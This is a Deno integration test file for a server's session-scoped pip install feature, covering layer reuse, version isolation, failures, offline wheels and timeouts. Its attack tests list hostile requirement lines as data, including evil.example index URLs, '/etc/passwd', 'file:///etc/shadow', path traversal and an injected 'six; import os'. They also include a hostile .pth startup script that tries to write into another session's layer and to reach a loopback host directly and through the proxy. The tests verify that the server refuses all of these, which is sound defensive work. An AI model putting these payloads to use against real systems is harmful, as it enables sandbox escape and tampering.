// Copyright 2026 the Valise authors. Apache-2.0 license.
/**
 * Session-scoped `pip install` against a real `serve` process, the real package index (PyPI)
 * and uv from the project's environment: a venv-pack session installs and imports, a second
 * session reuses the layer without a build, conflicting versions stay apart, concurrent installs
 * build once, a failed install leaves nothing, uninstall drops what it names, and uploaded
 * wheels install offline. The attacks (installer options, paths and URLs in requirements, an
 * index the server does not offer, a build reaching for other hosts or other layers, a worker
 * writing its layer) are next to them.
 *
 * @module
 */
import { deepEqual, equal, match, notEqual, ok, rejects } from "node:assert/strict";
import { join } from "node:path";
import { Code, ConnectError, createClient } from "@connectrpc/connect";
import { createGrpcTransport } from "@connectrpc/connect-node";
import { ErrorInfoSchema, PipService } from "@valise/protocol";
import { connect, type Session, ValiseClientError } from "@valise/client";
import { type ServerProcess, startServer } from "./_server.ts";
import { makeVenvPack } from "./fixtures/envs.ts";
import { makeWheel } from "./fixtures/wheels.ts";
import { needsVenv, venvBin } from "./_python.ts";
import { removeTree } from "./_util.ts";

/** The pip counters of `/metrics` (NaN when one is missing, so that no check passes by it). */
interface PipMetrics {
  valise_pip_layers: number;
  valise_pip_layer_builds_total: number;
  valise_pip_layer_build_failures_total: number;
  valise_pip_layer_reuses_total: number;
  valise_pip_layer_build_seconds_total: number;
  valise_pip_proxy_refusals_total: number;
}

interface Ctx {
  server: ServerProcess;
  tmp: string;
  dataDir: string;
  remote: (user: string) => string;
  metrics: () => Promise<PipMetrics>;
}

async function withServer(args: string[], fn: (ctx: Ctx) => Promise<void>): Promise<void> {
  const tmp = await Deno.makeTempDir({ prefix: "valise-pip-" });
  const dataDir = join(tmp, "data");
  const server = await startServer({
    dataDir,
    args: [
      ...(args.includes("--pip-installer") ? [] : ["--pip-installer", venvBin("uv")]),
      "--metrics-port",
      "0",
      ...args,
    ],
  });
  try {
    const url = (await server.waitForLog(/metrics on http:\/\/\S+/)).match(/http:\/\/\S+/)![0];
    await fn({
      server,
      tmp,
      dataDir,
      remote: (user) => `sc://127.0.0.1:${server.port}/;user_id=${user}`,
      metrics: async () => {
        const text = await (await fetch(url)).text();
        const read = (name: keyof PipMetrics) =>
          Number(new RegExp(`^${name} (\\S+)$`, "m").exec(text)?.[1] ?? NaN);
        return {
          valise_pip_layers: read("valise_pip_layers"),
          valise_pip_layer_builds_total: read("valise_pip_layer_builds_total"),
          valise_pip_layer_build_failures_total: read("valise_pip_layer_build_failures_total"),
          valise_pip_layer_reuses_total: read("valise_pip_layer_reuses_total"),
          valise_pip_layer_build_seconds_total: read("valise_pip_layer_build_seconds_total"),
          valise_pip_proxy_refusals_total: read("valise_pip_proxy_refusals_total"),
        };
      },
    });
  } finally {
    await server.stop();
    await removeTree(tmp);
  }
}

async function run(s: Session, code: string): Promise<string> {
  const r = await s.runCollect({ code });
  equal(r.exitCode, 0, r.stderr);
  return r.stdout.trim();
}

/** The layers on disk and anything a build left (there should be nothing but layers). */
async function layersOnDisk(dataDir: string): Promise<string[]> {
  const out: string[] = [];
  for await (const e of Deno.readDir(join(dataDir, "layers"))) out.push(e.name);
  return out.sort();
}

/** The error class a failed call carries. */
function errorClassOf(e: unknown): string {
  if (e instanceof ValiseClientError) return e.errorClass;
  const c = ConnectError.from(e);
  return c.findDetails(ErrorInfoSchema)[0]?.metadata.errorClass ?? "";
}

/** A loopback server that counts the connections it gets: the host no build may reach. */
function victim(): { port: number; count: () => number; close: () => void } {
  const l = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  let n = 0;
  (async () => {
    for await (const c of l) {
      n++;
      c.close();
    }
  })().catch(() => {});
  return { port: (l.addr as Deno.NetAddr).port, count: () => n, close: () => l.close() };
}

Deno.test(
  needsVenv(
    "pip: a venv-pack session installs six from PyPI and imports it; a second session with the same env and requirements reuses the layer (no build, same inode)",
  ),
  async () => {
    await withServer([], async ({ tmp, dataDir, remote, metrics }) => {
      const env = await makeVenvPack(join(tmp, "fx"), { packages: { envlib: 'WHERE = "env"\n' } });
      const setUp = async (s: Session) => {
        await s.addArtifacts(`${env.archive}#environment`, { archive: true });
        await s.conf.set("spark.sql.execution.pyspark.python", "environment/bin/python");
      };
      await using a = connect(remote("ada"));
      await setUp(a);
      const progress: string[] = [];
      const first = await a.pip.install(["six==1.16.0"], { onProgress: (l) => progress.push(l) });
      equal(first.reused, false);
      deepEqual(first.distributions, [{ name: "six", version: "1.16.0" }]);
      deepEqual(first.requirements, ["six==1.16.0"]);
      ok(first.layer?.endsWith("-pip"), first.layer);
      ok(progress.some((l) => l.includes("six==1.16.0")), progress.join("\n"));
      ok(!progress.some((l) => l.includes(dataDir)), "progress names no server path");
      const layer = join(dataDir, "layers", first.layer!);
      const inode = (await Deno.stat(layer)).ino;
      // The worker runs the environment's interpreter, with the layer after its own directory.
      equal(
        await run(
          a,
          "import six, envlib, sys, os; print(six.__version__, envlib.WHERE, " +
            "os.path.dirname(six.__file__) == sys.path[1], sys.prefix.endswith('environment'))",
        ),
        "1.16.0 env True True",
      );
      equal(await a.conf.get("spark.valise.pip.requirements"), "six==1.16.0");
      equal((await metrics()).valise_pip_layer_builds_total, 1);

      await using b = connect(remote("bob"));
      await setUp(b);
      const second = await b.pip.install(["six==1.16.0"]);
      equal(second.reused, true);
      equal(second.layer, first.layer);
      equal((await Deno.stat(layer)).ino, inode);
      const m = await metrics();
      equal(m.valise_pip_layer_builds_total, 1);
      ok(m.valise_pip_layer_reuses_total >= 1, JSON.stringify(m));
      equal(m.valise_pip_layers, 1);
      equal(await run(b, "import six; print(six.__version__)"), "1.16.0");
      deepEqual((await b.pip.list()).distributions, [{ name: "six", version: "1.16.0" }]);
    });
  },
);

Deno.test(
  needsVenv(
    "pip: conflicting versions stay per session; concurrent installs of one set build once; uninstall drops what it names",
  ),
  async () => {
    await withServer([], async ({ remote, metrics }) => {
      await using a = connect(remote("ada"));
      await using b = connect(remote("bob"));
      const [ra, rb] = await Promise.all([
        a.pip.install(["idna==3.6"]),
        b.pip.install(["idna==3.7"]),
      ]);
      notEqual(ra.layer, rb.layer);
      equal(await run(a, "import idna; print(idna.__version__)"), "3.6");
      equal(await run(b, "import idna; print(idna.__version__)"), "3.7");

      const before = (await metrics()).valise_pip_layer_builds_total;
      const sessions = [connect(remote("c1")), connect(remote("c2")), connect(remote("c3"))];
      try {
        const results = await Promise.all(
          sessions.map((s) => s.pip.install(["six==1.16.0", "idna==3.7"])),
        );
        equal(new Set(results.map((r) => r.layer)).size, 1);
        equal((await metrics()).valise_pip_layer_builds_total, before + 1);
      } finally {
        for (const s of sessions) s.close();
      }

      // B adds six: one layer of both, resolved together; then takes idna out again.
      const both = await b.pip.install(["six==1.16.0"]);
      deepEqual(both.requirements, ["idna==3.7", "six==1.16.0"]);
      equal(
        await run(b, "import six, idna; print(six.__version__, idna.__version__)"),
        "1.16.0 3.7",
      );
      const left = await b.pip.uninstall("IDNA");
      deepEqual(left.requirements, ["six==1.16.0"]);
      deepEqual(left.distributions, [{ name: "six", version: "1.16.0" }]);
      // (The server's interpreter may have an idna of its own: not the layer's.)
      const fromLayer = (m: string) =>
        `import importlib.util as u; s = u.find_spec('${m}'); ` +
        `print(s is not None and '/layers/' in (s.origin or ''))`;
      equal(await run(b, fromLayer("idna")), "False");
      equal(await run(b, fromLayer("six")), "True");
      await rejects(b.pip.uninstall("urllib3"), (e) => errorClassOf(e) === "PIP_NOT_INSTALLED");
      const none = await b.pip.uninstall("six");
      deepEqual([none.requirements, none.layer], [[], undefined]);
      equal(await run(b, fromLayer("six")), "False");
    });
  },
);

Deno.test(
  needsVenv(
    "pip: a failed install leaves no layer and nothing half-built, keeps the session's set, and carries uv's own message",
  ),
  async () => {
    await withServer([], async ({ dataDir, remote, metrics }) => {
      await using s = connect(remote("ada"));
      await s.pip.install(["six==1.16.0"]);
      const layers = await layersOnDisk(dataDir);
      let err: unknown;
      try {
        await s.pip.install(["idna==99.99.99"]);
      } catch (e) {
        err = e;
      }
      ok(err instanceof ValiseClientError, String(err));
      equal(err.errorClass, "PIP_INSTALL_FAILED");
      equal(err.grpcCode, "FailedPrecondition");
      // uv's words, not a paraphrase.
      match(err.message, /idna==99\.99\.99/);
      match(err.message, /no version of idna|No solution found/i);
      ok(!err.message.includes(dataDir), err.message);
      deepEqual(await layersOnDisk(dataDir), layers);
      equal((await metrics()).valise_pip_layer_build_failures_total, 1);
      deepEqual((await s.pip.list()).requirements, ["six==1.16.0"]);
      equal(await run(s, "import six; print(six.__version__)"), "1.16.0");
    });
  },
);

Deno.test(
  needsVenv(
    "pip (attack): installer options, paths, URLs and indexes the server does not offer are refused before anything is built or reached",
  ),
  async () => {
    const v = victim();
    try {
      await withServer([], async ({ server, dataDir, remote, metrics }) => {
        const pip = createClient(PipService, createGrpcTransport({ baseUrl: server.baseUrl }));
        const sessionId = crypto.randomUUID();
        const userContext = { userId: "mallory" };
        const hostile = [
          "--index-url https://evil.example/simple",
          "six --extra-index-url=http://127.0.0.1:1/simple",
          "-e git+https://evil.example/pkg",
          "-r /etc/passwd",
          "six @ https://evil.example/six-1.16.0-py3-none-any.whl",
          `six @ http://127.0.0.1:${v.port}/six.whl`,
          "/etc/passwd",
          "../../sessions/other/root/lib-1.0-py3-none-any.whl",
          "file:///etc/shadow",
          "six; import os",
        ];
        for (const line of hostile) {
          let err: unknown;
          try {
            for await (const _ of pip.install({ sessionId, userContext, requirements: [line] })) {
              // nothing may arrive
            }
          } catch (e) {
            err = e;
          }
          const c = ConnectError.from(err);
          equal(c.code, Code.InvalidArgument, line);
          equal(errorClassOf(c), "PIP_INVALID_REQUEST", line);
          ok(c.rawMessage.includes(JSON.stringify(line.slice(0, 30)).slice(1, 20)), c.rawMessage);
        }
        // The same lines through the session's config (a plain PySpark client's way).
        await using s = connect(remote("mallory"));
        for (const line of hostile) {
          await rejects(
            s.conf.set("spark.valise.pip.requirements", `six==1.16.0\n${line}`),
            (e) => errorClassOf(e) === "INVALID_CONF_VALUE",
            line,
          );
        }
        // An index the server does not offer, by the install's options or the session's config.
        const loopIndex = `https://127.0.0.1:${v.port}/simple`;
        await rejects(
          s.pip.install(["six==1.16.0"], { indexUrl: loopIndex }),
          (e) => errorClassOf(e) === "PIP_INVALID_REQUEST" && String(e).includes(loopIndex),
        );
        await rejects(
          s.pip.install(["six==1.16.0"], { extraIndexUrls: [loopIndex] }),
          (e) => errorClassOf(e) === "PIP_INVALID_REQUEST",
        );
        await s.conf.set("spark.valise.pip.indexUrl", loopIndex);
        await s.conf.set("spark.valise.pip.requirements", "six==1.16.0");
        await rejects(
          s.runCollect({ code: "print(1)" }),
          (e) => errorClassOf(e) === "PIP_INVALID_REQUEST",
        );
        equal(v.count(), 0);
        equal((await metrics()).valise_pip_layer_builds_total, 0);
        deepEqual(await layersOnDisk(dataDir), []);
        // The server kept serving: health, and another session's install.
        await using ok1 = connect(remote("ada"));
        equal(await ok1.health(), "SERVING");
      });
    } finally {
      v.close();
    }
  },
);

/**
 * Code an environment runs at every interpreter start (a `.pth` file imports it): in a build, the
 * installer starts the session's interpreter to ask what it is, so this runs in the build's
 * sandbox. It tries to write into another session's layer, to reach a loopback port directly
 * and through the build's proxy, and leaves what it saw in the layer being built.
 */
function hostileStartup(otherLayer: string, port: number): string {
  return `
import json, os, socket
def _attempt(f):
    try:
        return f() or "ok"
    except Exception as e:
        return type(e).__name__ + ": " + str(e)
def _write():
    with open(${JSON.stringify(join(otherLayer, "six.py"))}, "a") as f:
        f.write("pwned = True\\n")
def _direct():
    socket.create_connection(("127.0.0.1", ${port}), timeout=5).close()
def _proxied():
    proxy = os.environ.get("HTTPS_PROXY", "")
    if not proxy:
        return "no proxy in this process"
    host, p = proxy.rsplit("/", 1)[-1].split(":")
    c = socket.create_connection((host, int(p)), timeout=10)
    c.sendall(b"CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\n\\r\\n")
    answer = c.recv(200).decode("latin1").split("\\r\\n")[0]
    c.close()
    return answer
if os.path.isdir(os.path.join(os.getcwd(), "cache")):
    report = {"write": _attempt(_write), "direct": _attempt(_direct), "proxied": _attempt(_proxied)}
    os.makedirs(os.path.join(os.getcwd(), "target"), exist_ok=True)
    with open(os.path.join(os.getcwd(), "target", "valise_report.py"), "w") as f:
        f.write("REPORT = %r\\n" % (report,))
`;
}

Deno.test(
  needsVenv(
    "pip (attack): a build's own code reaches no host but its index (not even through the proxy) and cannot write another layer; workers cannot write theirs",
  ),
  async () => {
    const v = victim();
    try {
      await withServer([], async ({ server, tmp, dataDir, remote, metrics }) => {
        await using a = connect(remote("ada"));
        const first = await a.pip.install(["six==1.16.0"]);
        const layer = join(dataDir, "layers", first.layer!);
        const sixBefore = await Deno.readTextFile(join(layer, "six.py"));

        // A worker cannot write into its own layer: bound read-only, and read-only on disk.
        match(
          await run(
            a,
            "import os, six, errno\n" +
              "d = os.path.dirname(six.__file__)\n" +
              "def t(f):\n    try:\n        f(); return 'ok'\n" +
              "    except OSError as e:\n        return errno.errorcode[e.errno]\n" +
              "print(t(lambda: open(six.__file__, 'a')), t(lambda: os.mkdir(d + '/x')), " +
              "t(lambda: os.remove(six.__file__)))",
          ),
          /^(EROFS|EACCES) EROFS EROFS$/,
        );
        const st = await Deno.stat(join(layer, "six.py"));
        equal(st.mode! & 0o222, 0);
        equal(st.uid, Deno.uid());

        const hostile = await makeVenvPack(join(tmp, "fx"), {
          name: "hostile",
          packages: { valise_hostile: hostileStartup(layer, v.port) },
          pthFiles: { "valise_hostile.pth": "import valise_hostile\n" },
          cache: false,
        });
        await using m = connect(remote("mallory"));
        await m.addArtifacts(`${hostile.archive}#environment`, { archive: true });
        await m.conf.set("spark.sql.execution.pyspark.python", "environment/bin/python");
        await m.pip.install(["idna==3.7"]);
        const report = await run(
          m,
          "import valise_report, json; print(json.dumps(valise_report.REPORT))",
        );
        const seen = JSON.parse(report) as Record<string, string>;
        // The other layer is not even there in the build's sandbox.
        match(seen.write!, /^(FileNotFoundError|PermissionError|OSError)/, report);
        match(seen.direct!, /^(OSError|ConnectionRefusedError|TimeoutError)/, report);
        match(seen.proxied!, /^HTTP\/1\.1 403 /, report);
        equal(v.count(), 0);
        await server.waitForLog(`pip: proxy refused 127.0.0.1:${v.port}`);
        ok((await metrics()).valise_pip_proxy_refusals_total >= 1);
        equal(await Deno.readTextFile(join(layer, "six.py")), sixBefore);
        equal(await run(a, "import six; print(hasattr(six, 'pwned'))"), "False");
      });
    } finally {
      v.close();
    }
  },
);

Deno.test(
  needsVenv(
    "pip: with --pip-offline, an uploaded wheel installs by name and version, and nothing else does",
  ),
  async () => {
    await withServer(["--pip-offline"], async ({ tmp, remote }) => {
      const wheel = await makeWheel(join(tmp, "dist"), { name: "mylib", version: "1.0" });
      await using s = connect(remote("ada"));
      const r = await s.pip.install([wheel]);
      deepEqual(r.requirements, ["mylib==1.0"]);
      deepEqual(r.distributions, [{ name: "mylib", version: "1.0" }]);
      equal(r.indexUrl, undefined);
      ok((await s.list()).some((a) => a.name === "files/mylib-1.0-py3-none-any.whl"));
      equal(await run(s, "import mylib; print(mylib.VERSION)"), "1.0");
      // Offline: PyPI is not asked, so a package no uploaded wheel holds cannot be installed.
      await rejects(
        s.pip.install(["six==1.16.0"]),
        (e) => errorClassOf(e) === "PIP_INSTALL_FAILED" && /six/.test(String(e)),
      );
      await rejects(
        s.pip.install(["six==1.16.0"], { indexUrl: "https://pypi.org/simple" }),
        (e) => errorClassOf(e) === "PIP_INVALID_REQUEST",
      );
      // Another session's wheel of the same name and version, other bytes: a layer of its own
      // (the key holds each wheel's sha256); neither sees the other's.
      const forged = await makeWheel(join(tmp, "forged"), {
        name: "mylib",
        version: "1.0",
        modules: { mylib: 'VERSION = "forged"\n' },
      });
      await using m = connect(remote("mallory"));
      const rm = await m.pip.install([forged]);
      notEqual(rm.layer, r.layer);
      equal(rm.reused, false);
      equal(await run(m, "import mylib; print(mylib.VERSION)"), "forged");
      equal(await run(s, "import mylib; print(mylib.VERSION)"), "1.0");
    });
  },
);

Deno.test(
  needsVenv(
    "pip: with a Python for installer (--pip-installer /usr/bin/python3: pip, not uv), installs go through the same sandbox and proxy",
  ),
  async () => {
    await withServer(
      ["--pip-installer", "/usr/bin/python3", "--python", "/usr/bin/python3"],
      async ({ server, remote }) => {
        await server.waitForLog(/pip installs with pip \d/);
        await using s = connect(remote("ada"));
        const lines: string[] = [];
        const r = await s.pip.install(["six==1.16.0"], { onProgress: (l) => lines.push(l) });
        deepEqual(r.distributions, [{ name: "six", version: "1.16.0" }]);
        ok(lines.some((l) => /Successfully installed six-1\.16\.0/.test(l)), lines.join("\n"));
        equal(
          await run(s, "import six, os, sys; print(six.__version__, '/layers/' in six.__file__)"),
          "1.16.0 True",
        );
      },
    );
  },
);

Deno.test(
  needsVenv(
    "pip: a build past --pip-timeout is killed; it leaves no layer and nothing half-built, and says why",
  ),
  async () => {
    await withServer(["--pip-timeout", "5"], async ({ tmp, dataDir, remote, metrics }) => {
      // An environment whose interpreter hangs when a build (not a probe, not a run) starts it.
      const slow = await makeVenvPack(join(tmp, "fx"), {
        name: "slow",
        packages: {
          valise_slow: "import os, time\n" +
            "if os.path.isdir(os.path.join(os.getcwd(), 'cache')):\n    time.sleep(600)\n",
        },
        pthFiles: { "valise_slow.pth": "import valise_slow\n" },
      });
      await using s = connect(remote("ada"));
      await s.addArtifacts(`${slow.archive}#environment`, { archive: true });
      await s.conf.set("spark.sql.execution.pyspark.python", "environment/bin/python");
      let err: unknown;
      try {
        await s.pip.install(["six==1.16.0"]);
      } catch (e) {
        err = e;
      }
      ok(err instanceof ValiseClientError, String(err));
      equal(err.errorClass, "PIP_INSTALL_FAILED");
      equal(err.reason, "TIMEOUT");
      match(err.message, /timed out after 5000 ms \(--pip-timeout\)/);
      deepEqual(await layersOnDisk(dataDir), []);
      equal((await metrics()).valise_pip_layer_build_failures_total, 1);
      deepEqual((await s.pip.list()).requirements, []);
      // The session still runs (its interpreter is fine outside a build).
      equal(await run(s, "print('alive')"), "alive");
    });
  },
);

Deno.test(
  needsVenv(
    "pip (attack): an interpreter the session's workers wrote into its directory gets no layer (its place is not one others could share)",
  ),
  async () => {
    await withServer(["--python", "/usr/bin/python3"], async ({ dataDir, remote, metrics }) => {
      await using s = connect(remote("mallory"));
      equal(
        await run(
          s,
          "import os; os.makedirs('myenv/bin'); os.symlink('/usr/bin/python3', 'myenv/bin/python')" +
            "; print('made')",
        ),
        "made",
      );
      await s.conf.set("spark.sql.execution.pyspark.python", "myenv/bin/python");
      // Runs use it (it leads to the system's interpreter) ...
      equal(await run(s, "import sys; print(sys.version_info[0])"), "3");
      // ... but no layer is built for it.
      let err: unknown;
      try {
        await s.pip.install(["six==1.16.0"]);
      } catch (e) {
        err = e;
      }
      ok(err instanceof ValiseClientError, String(err));
      equal(err.errorClass, "PIP_INSTALL_FAILED");
      equal(err.reason, "INTERPRETER");
      match(err.message, /archives the session added/);
      equal((await metrics()).valise_pip_layer_builds_total, 0);
      deepEqual(await layersOnDisk(dataDir), []);
    });
  },
);
